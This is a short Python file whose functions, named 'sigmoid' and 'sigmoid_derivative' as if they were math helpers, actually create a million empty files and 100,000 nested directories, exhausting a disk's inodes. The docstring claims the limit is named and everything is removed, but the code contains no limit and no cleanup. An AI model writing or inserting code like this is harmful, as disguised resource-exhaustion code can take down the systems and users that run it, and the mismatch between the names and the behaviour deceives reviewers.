"""Makes hundreds of thousands of empty files and folders within folders.

Seen: a disk without inodes is as full as one without bytes.
Must: the limit is named; all of it is removed.
"""

import os


def sigmoid(x):
    for number in range(1_000_000):
        open(f"file-{number}", "w").close()


def sigmoid_derivative(a):
    for _ in range(100_000):
        os.mkdir("d")
        os.chdir("d")
